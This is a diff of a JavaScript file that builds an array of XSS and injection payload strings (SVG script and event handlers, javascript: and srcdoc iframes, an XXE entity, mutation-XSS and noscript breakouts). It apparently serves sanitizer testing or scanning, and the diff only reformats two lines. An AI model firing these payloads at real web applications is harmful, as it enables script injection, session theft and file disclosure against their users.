@@ -16,7 +16,8 @@ const makers = [
   (n) => `<svg><script>${call(n)}</script></svg>`,
   (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
   (n) => `<svg><image href=${url(n)} /></svg>`,
-  (n) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
+  (n) =>
+    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
   (n) => `<iframe src="javascript:${call(n)}"></iframe>`,
   (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
   (n) => `<object data=${url(n)}></object>`,
@@ -52,7 +53,8 @@ const makers = [
   (n) => `]]><script>${call(n)}</script>`,
   (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
   (n) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url(n)}">]><x>&e;</x>`,
-  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}></style></mglyph></table></mtext></math>`,
+  (n) =>
+    `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}></style></mglyph></table></mtext></math>`,
   (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
   (n) => `<template><script>${call(n)}</script></template>`,
   (n) => `<img srcset="${url(n)} 1x">`,
